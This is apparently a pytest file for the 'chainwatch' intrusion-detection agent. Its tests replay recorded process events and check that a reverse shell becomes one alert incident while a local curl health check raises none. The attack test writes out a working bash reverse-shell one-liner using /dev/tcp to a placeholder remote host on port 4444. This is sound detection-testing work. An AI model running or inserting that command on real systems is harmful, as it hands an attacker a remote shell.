"""`chainwatch replay FILE --alerts OUT`: recorded attack and benign event streams through the real CLI."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from tests.helpers.events import REMOTE, EventStream, S

ROOT = Path(__file__).resolve().parents[2]
HOST_META = {"hostname": "ci-runner-9", "host_id": "h9"}


def script() -> EventStream:
    """A hand-written event stream for a few processes, as a recording from host ci-runner-9 holds it."""
    return EventStream(t0=2_000 * S, cgroup_id=9)


def replay(recording: Path, out: Path) -> list[dict[str, Any]]:
    proc = subprocess.run(
        [sys.executable, "-m", "agent", "replay", str(recording), "--alerts", str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert out.exists()
    return [json.loads(line) for line in out.read_text().splitlines() if line.strip()]


def test_replay_bash_dev_tcp_attack_is_one_incident(tmp_path: Path) -> None:
    """bash -i >& /dev/tcp/... under sshd (connect + 3 dups) replays to one incident naming the destination."""
    s = script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
    s.connect(200, REMOTE, 4444, t=1.01)
    for fd in (0, 1, 2):
        s.dup(200, fd, t=1.02 + fd / 1000, daddr=REMOTE, dport=4444)
    # bash -c execs its only command in place: `bash -i` starts with the socket on its stdio
    s.exec(
        200,
        "/usr/bin/bash",
        ("bash", "-i"),
        1.03,
        stdio=("socket",) * 3,
        stdio_socket_fd=0,
        stdio_family="ipv4",
        stdio_transport="tcp",
        stdio_daddr=REMOTE,
        stdio_dport=4444,
    )
    s.write_recording(tmp_path / "attack.cwrec", HOST_META)
    alerts = replay(tmp_path / "attack.cwrec", tmp_path / "alerts.jsonl")
    assert 1 <= len(alerts) <= 2  # the shell's connect, then the new stdio_to_socket kind; the rest suppressed
    assert len({a["chainwatch"]["incident"]["id"] for a in alerts}) == 1
    for a in alerts:
        assert a["destination"] == {"ip": REMOTE, "port": 4444}
        assert a["process"]["executable"] == "/usr/bin/bash"
        assert a["process"]["parent"]["executable"] == "/usr/sbin/sshd"
        assert a["host"] == {"hostname": "ci-runner-9", "id": "h9"}
    assert "shell_network_connection" in alerts[0]["chainwatch"]["signals"]
    assert set(alerts[-1]["chainwatch"]["signals"]) == {"shell_network_connection", "stdio_to_socket"}


def test_replay_benign_curl_under_bash_no_alerts(tmp_path: Path) -> None:
    """curl under bash talking to loopback replays to an empty alerts file."""
    s = script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "build.sh"), t=1)
    s.spawn(300, 200, "/usr/bin/curl", ("curl", "-fsS", "http://127.0.0.1:8080/health"), t=2)
    s.connect(300, "127.0.0.1", 8080, t=2.1)
    s.connect(200, "127.0.0.1", 5432, t=3)  # a wait-for-it style /dev/tcp probe of a local service
    s.write_recording(tmp_path / "benign.cwrec", HOST_META)
    assert replay(tmp_path / "benign.cwrec", tmp_path / "alerts.jsonl") == []
